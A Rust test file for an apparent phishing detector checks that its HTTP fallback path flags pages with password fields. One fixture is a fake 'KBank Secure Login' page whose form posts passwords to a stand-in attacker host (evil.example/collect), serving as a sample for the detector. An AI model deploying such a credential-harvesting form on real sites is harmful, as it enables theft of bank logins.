use ct_sentinel::layers::detective::Detective;

/// With the browser path disabled, every call must go through the HTTP
/// fallback and still return a usable LayerResult.
#[tokio::test]
async fn http_fallback_flags_login_form() {
    let server = httpmock::MockServer::start();
    let mock = server.mock(|when, then| {
        when.method(httpmock::Method::GET).path("/");
        then.status(200).body(
            r#"<html><head><title>KBank Secure Login</title></head><body>
                <form action="https://evil.example/collect">
                    <input type="password" name="pass">
                </form>
            </body></html>"#,
        );
    });

    let detective = Detective::new(false, vec!["ยืนยันตัวตน".to_string()], 5_000);
    let host = server.address().to_string();
    let result = detective.analyze_url(&format!("http://{}/", host)).await;

    mock.assert();
    assert!(result.used_http_fallback);
    assert!(result.page_accessible);
    assert!(result.dom.has_password_field);
    assert!(result.factors.iter().any(|f| f.contains("password")));
}

/// A second, unrelated target must also use the fallback without retrying
/// the (already-broken, here: disabled) browser path.
#[tokio::test]
async fn second_target_also_uses_fallback() {
    let server = httpmock::MockServer::start();
    server.mock(|when, then| {
        when.method(httpmock::Method::GET).path("/");
        then.status(200).body("<html><body>nothing interesting</body></html>");
    });

    let detective = Detective::new(false, vec![], 5_000);
    let host = server.address().to_string();
    let result = detective.analyze_url(&format!("http://{}/", host)).await;

    assert!(result.used_http_fallback);
    assert!(result.page_accessible);
    assert!(!result.dom.has_password_field);
}
